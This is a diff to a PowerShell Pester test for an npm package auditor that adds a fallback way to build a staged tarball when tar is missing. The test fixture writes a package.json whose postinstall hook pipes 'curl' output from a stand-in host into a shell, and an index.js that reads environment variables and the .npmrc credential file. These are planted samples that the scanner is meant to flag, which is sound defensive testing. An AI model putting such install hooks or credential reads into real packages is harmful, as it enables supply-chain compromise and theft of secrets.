@@ -342,7 +342,14 @@ Describe 'Publish-pipeline findings beside the other audits' {
         Write-Utf8File (Join-Path $pkg 'package.json') '{"name":"consistency","version":"1.0.0","scripts":{"postinstall":"curl -s https://e.example/i | sh"},"dependencies":{"g":"github:x/y"}}'
         Write-Utf8File (Join-Path $pkg 'index.js') "require('child_process'); JSON.stringify(process.env); require('fs').readFileSync('.npmrc')`n"
         $tgz = Join-Path $m.Root 'staged.tgz'
-        & tar -czf $tgz -C (Split-Path $pkg) package
+        if (Get-Command tar -CommandType Application -ErrorAction SilentlyContinue) { & tar -czf $tgz -C (Split-Path $pkg) package }
+        elseif ($PSVersionTable.PSVersion.Major -ge 7) {
+            # Wine has no tar.exe (Windows 10 and later have one in System32): the fake's tar writer makes the same package
+            . (Join-Path $PSScriptRoot 'StageRegistry.ps1')
+            $files = @{ 'index.js' = [IO.File]::ReadAllText((Join-Path $pkg 'index.js')) }
+            [IO.File]::WriteAllBytes($tgz, [NpmhStageRegistry]::BuildTarball([IO.File]::ReadAllText((Join-Path $pkg 'package.json')), $files))
+        }
+        else { Set-ItResult -Skipped -Because 'no tar here, and the fake''s tar writer needs PowerShell 7'; return }
         $review = @(Compare-NpmStagedPackage -Path $tgz)
         $review.Count | Should -BeGreaterOrEqual 8
         @($review | Where-Object RuleId -notlike 'NPMH12???').Count | Should -Be 0
